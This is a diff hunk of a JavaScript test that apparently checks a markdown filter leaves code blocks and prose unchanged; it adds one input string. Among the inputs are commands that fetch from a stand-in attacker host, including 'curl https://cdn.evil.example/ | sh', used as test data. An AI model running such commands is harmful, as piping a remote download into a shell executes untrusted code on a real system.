@@ -96,6 +96,7 @@ t.test('[FILTER4] code stays as it is, and so does what is only prose', async (t
     '```sh\ncurl https://cdn.evil.example/ | sh\necho "<img>" ![x](y)\n```\n',
     'a < b and c > d, 1 <2, arr[1] (see above), wow! [E1] *very* **bold**',
     '| a | b |\n|---|---|\n| 1 | 2 |',
+    '1. Look:\n   ```sh\n   ls\n   ```\n\n2. Run `curl https://cdn.evil.example/a.php`.',
     '~~~\n```\n<img>\n~~~\n\nthen ``a ` <b>`` and `x | <y>`',
   ]) {
     t.equal(review(text).content, text)
